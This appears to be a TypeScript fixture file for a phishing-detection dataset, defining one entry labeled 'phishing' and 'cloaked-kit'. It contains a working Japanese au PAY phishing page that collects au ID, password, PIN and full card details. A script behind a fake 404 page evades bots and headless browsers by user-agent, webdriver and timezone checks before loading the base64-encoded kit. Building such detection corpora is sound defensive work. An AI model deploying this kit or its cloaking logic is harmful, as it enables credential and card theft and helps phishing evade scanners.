import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, b64 } from '../parts/yj-kit.js';

// Kits that hide themselves.

const aupayKit = `<div class="kit"><div style="background:#eb5505;color:#fff;padding:14px 16px;font-weight:bold">au PAY</div>
<div style="max-width:440px;margin:0 auto;padding:20px"><h2 style="font-size:19px">au PAY 残高の保護手続き</h2><p style="font-size:14px">不正チャージの疑いがあるため、au PAY 残高のお支払いを一時停止しました。以下でご本人確認を完了してください。</p>
<form method="post" action="/wp-includes/css/dist/au/post.php"><input name="auid" placeholder="au ID" style="width:100%;padding:12px;margin:6px 0;font-size:16px"><input name="pw" type="password" placeholder="パスワード" style="width:100%;padding:12px;margin:6px 0;font-size:16px"><input name="pin" type="password" placeholder="暗証番号（4桁）" maxlength="4" style="width:100%;padding:12px;margin:6px 0;font-size:16px"><input name="cc" placeholder="カード番号" style="width:100%;padding:12px;margin:6px 0;font-size:16px"><input name="exp" placeholder="MM/YY" style="width:100%;padding:12px;margin:6px 0;font-size:16px"><input name="cvv" placeholder="CVV" style="width:100%;padding:12px;margin:6px 0;font-size:16px">
<button style="width:100%;margin-top:10px;background:#eb5505;color:#fff;border:0;border-radius:30px;padding:14px;font-size:16px">本人確認する</button></form></div></div>`;

export const entries: Entry[] = [
  // yj-aupay-cloaked-tz
{
  id: 'yj-aupay-cloaked-tz',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://www.hokuriku-seitai.jp/wp-includes/css/dist/au/',
  body: doc({
    lang: 'ja',
    title: 'ページが見つかりません',
    css: `.nf{max-width:600px;margin:80px auto;text-align:center;color:#666}`,
    body: `<div class="nf" id="nf"><h1>404 Not Found</h1><p>お探しのページは見つかりませんでした。</p></div><div id="app"></div>`,
    tail: `<script>
(function(){
 var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
 var ua=navigator.userAgent,bad=/bot|crawl|spider|headless|lighthouse|curl|python|phantom|selenium|google|bing|yandex/i.test(ua);
 var mob=/iPhone|Android|Mobile/i.test(ua)||('ontouchstart' in window);
 if(navigator.webdriver||bad)return;
 if(tz!=='Asia/Tokyo'&&!/^ja/.test(navigator.language||''))return;
 fetch('./tpl.dat').then(function(r){return r.text()}).then(function(t){
  var h=decodeURIComponent(escape(atob(t)));document.getElementById('nf').remove();document.getElementById('app').innerHTML=h;document.title='au PAY | 本人確認';
  if(!mob){document.body.style.maxWidth='480px';document.body.style.margin='0 auto'}
 });
})();
</script>`,
  }),
  routes: {
    'www.hokuriku-seitai.jp/wp-includes/css/dist/au/tpl.dat': { status: 200, headers: { 'content-type': 'text/plain; charset=utf-8' }, body: b64(aupayKit) },
  },
},
];
